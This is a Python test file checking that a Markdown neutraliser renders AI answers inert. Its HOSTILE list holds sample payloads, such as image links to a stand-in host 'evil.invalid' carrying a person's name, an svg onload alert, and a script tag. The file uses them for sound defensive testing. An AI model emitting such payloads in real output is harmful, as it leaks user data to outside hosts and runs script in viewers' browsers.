"""Answers become nothing that a viewer of Markdown or HTML would fetch or act on."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from client_sdk.answers.safe_output import MarkdownNeutraliser

HOSTILE = (
    "![](https://evil.invalid/?who=Anna)",
    "![x](<https://evil.invalid/?who=Anna Keller>)",
    "[Anna](https://evil.invalid)",
    "![x][a]\n\n[a]: https://evil.invalid/Anna",
    "![a]\n\n[a]: https://evil.invalid/Anna",
    "<img src='//evil.invalid/Anna'>",
    "<https://evil.invalid/Anna>",
    "<!-- a --><svg onload=alert(1)>",
    "</p><script>x</script>",
    "<?php x ?>",
    "```mermaid\ngraph TD\n```",
    "~~~html\n<b>\n~~~",
)
ACTIVE = {"link_open", "image", "html_inline", "html_block", "fence"}
markdown = MarkdownIt("commonmark", {"html": True})
pieces = st.lists(st.text(alphabet="[]()<>!:/?`~ab1 \n\\&#\"'-*_{}", max_size=12), max_size=8)


def made_inert(*texts: str) -> str:
    inert = MarkdownNeutraliser()
    return "".join(map(inert.push, texts))


def active_in(text: str) -> set[str]:
    tokens = markdown.parse(text)
    return {token.type for block in tokens for token in (block, *(block.children or ()))} & ACTIVE


@pytest.mark.parametrize("text", HOSTILE)
def test_what_a_viewer_would_act_on_is_parted(text: str) -> None:
    assert active_in(text)
    assert not active_in(made_inert(text))


@given(pieces)
def test_nothing_becomes_active_however_it_is_cut(texts: list[str]) -> None:
    told = made_inert(*texts)
    assert not active_in(told)
    assert told == made_inert("".join(texts))


@pytest.mark.parametrize(
    "text", ["Anna Keller (patient) [ward 3], 5 < 6, a <- b -> c, `x` ~1 https://clinic.invalid/a", "", "1. a\n2. b"]
)
def test_ordinary_text_stays_as_it_is(text: str) -> None:
    assert made_inert(text) == text
